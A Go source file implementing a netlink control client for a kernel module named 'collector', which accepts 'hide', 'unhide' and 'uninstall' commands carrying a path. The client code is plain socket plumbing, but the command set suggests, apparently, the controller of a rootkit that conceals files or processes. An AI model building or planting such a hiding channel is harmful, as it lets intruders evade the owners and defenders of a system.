// Package kernel implements the control client for the collector kernel module.
//
// The module registers the generic netlink family "collector". Each request opens
// its own socket, resolves the family, sends one command and waits for exactly one
// reply carrying a signed status byte. Sockets are never pooled or reused.
package kernel

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"log/slog"
	"os"
	"time"

	"github.com/mdlayher/genetlink"
	"github.com/mdlayher/netlink"
)

// Control protocol constants shared with the kernel module.
const (
	// DefaultFamilyName is the generic netlink family registered by the module.
	DefaultFamilyName = "collector"

	// ProtocolVersion is carried in every request header.
	ProtocolVersion uint8 = 1

	// attrMsg carries the path in requests and the status byte in replies.
	attrMsg uint16 = 1
)

// Command is a control opcode understood by the kernel module.
type Command uint8

const (
	CommandHide      Command = 0
	CommandUnhide    Command = 1
	CommandUninstall Command = 2
)

func (c Command) String() string {
	switch c {
	case CommandHide:
		return "hide"
	case CommandUnhide:
		return "unhide"
	case CommandUninstall:
		return "uninstall"
	default:
		return fmt.Sprintf("command(%d)", uint8(c))
	}
}

// Request is a single control request. A nil Payload sends no attribute.
type Request struct {
	Command Command
	Payload []byte
}

// Conn is the subset of *genetlink.Conn used by the client.
type Conn interface {
	GetFamily(name string) (genetlink.Family, error)
	Send(m genetlink.Message, family uint16, flags netlink.HeaderFlags) (netlink.Message, error)
	Receive() ([]genetlink.Message, []netlink.Message, error)
	SetDeadline(t time.Time) error
	Close() error
}

// Dialer opens a new generic netlink connection.
type Dialer func() (Conn, error)

// DialGeneric opens a generic netlink socket bound to the kernel with no multicast groups.
func DialGeneric() (Conn, error) {
	c, err := genetlink.Dial(nil)
	if err != nil {
		return nil, err
	}
	return c, nil
}

// Client sends control requests to the kernel module.
type Client struct {
	dial    Dialer
	family  string
	timeout time.Duration
	logger  *slog.Logger
}

// Option configures a Client.
type Option func(*Client)

// WithDialer replaces the netlink dialer. Used by tests.
func WithDialer(d Dialer) Option {
	return func(c *Client) { c.dial = d }
}

// WithFamily overrides the generic netlink family name.
func WithFamily(name string) Option {
	return func(c *Client) { c.family = name }
}

// WithTimeout bounds each request. Zero means no deadline beyond the context's.
func WithTimeout(d time.Duration) Option {
	return func(c *Client) { c.timeout = d }
}

// NewClient creates a kernel control client.
func NewClient(logger *slog.Logger, opts ...Option) *Client {
	c := &Client{
		dial:   DialGeneric,
		family: DefaultFamilyName,
		logger: logger.With(slog.String("component", "kernel")),
	}
	for _, opt := range opts {
		opt(c)
	}
	return c
}

// Execute sends req to the kernel module and returns the status byte of its reply.
// All failures are returned as *RPCError.
func (c *Client) Execute(ctx context.Context, req Request) (int8, error) {
	fail := func(kind ErrorKind, err error) (int8, error) {
		if errors.Is(err, os.ErrDeadlineExceeded) {
			kind = KindTimeout
		}
		return 0, &RPCError{Kind: kind, Command: req.Command, Err: err}
	}

	if req.Payload != nil && bytes.IndexByte(req.Payload, 0) >= 0 {
		return fail(KindInvalidPayload, errNULInPayload)
	}
	if err := ctx.Err(); err != nil {
		return fail(KindTimeout, err)
	}

	conn, err := c.dial()
	if err != nil {
		return fail(KindDial, err)
	}
	defer conn.Close()

	if deadline, ok := c.deadline(ctx); ok {
		if err := conn.SetDeadline(deadline); err != nil {
			c.logger.Debug("netlink socket does not support deadlines",
				slog.String("error", err.Error()),
			)
		}
	}

	family, err := conn.GetFamily(c.family)
	if err != nil {
		return fail(KindResolveFamily, fmt.Errorf("resolve family %q: %w", c.family, err))
	}

	msg := genetlink.Message{
		Header: genetlink.Header{
			Command: uint8(req.Command),
			Version: ProtocolVersion,
		},
	}
	if req.Payload != nil {
		ae := netlink.NewAttributeEncoder()
		// The module's policy is NLA_NUL_STRING; String appends the terminator.
		ae.String(attrMsg, string(req.Payload))
		if msg.Data, err = ae.Encode(); err != nil {
			return fail(KindInvalidPayload, err)
		}
	}

	sent, err := conn.Send(msg, family.ID, netlink.Request)
	if err != nil {
		return fail(KindSend, err)
	}
	c.logger.Debug("sent control request",
		slog.String("command", req.Command.String()),
		slog.Int("family_id", int(family.ID)),
		slog.Uint64("sequence", uint64(sent.Header.Sequence)),
		slog.Uint64("pid", uint64(sent.Header.PID)),
		slog.Bool("has_payload", req.Payload != nil),
	)

	replies, _, err := conn.Receive()
	if err != nil {
		return fail(KindReceive, err)
	}
	if len(replies) == 0 {
		return fail(KindEmptyReply, errEmptyReply)
	}

	status, err := parseStatus(replies[0].Data)
	if err != nil {
		return fail(KindMalformedReply, err)
	}

	c.logger.Debug("received control reply",
		slog.String("command", req.Command.String()),
		slog.Int("status", int(status)),
	)
	return status, nil
}

// deadline combines the client timeout with the context deadline.
func (c *Client) deadline(ctx context.Context) (time.Time, bool) {
	deadline, ok := ctx.Deadline()
	if c.timeout > 0 {
		if d := time.Now().Add(c.timeout); !ok || d.Before(deadline) {
			deadline, ok = d, true
		}
	}
	return deadline, ok
}

// parseStatus extracts the single status attribute from a reply payload.
func parseStatus(data []byte) (int8, error) {
	ad, err := netlink.NewAttributeDecoder(data)
	if err != nil {
		return 0, err
	}

	var (
		status uint8
		found  bool
	)
	for ad.Next() {
		if ad.Type() == attrMsg {
			status = ad.Uint8()
			found = true
		}
	}
	if err := ad.Err(); err != nil {
		return 0, err
	}
	if !found {
		return 0, errMissingStatus
	}
	return int8(status), nil
}
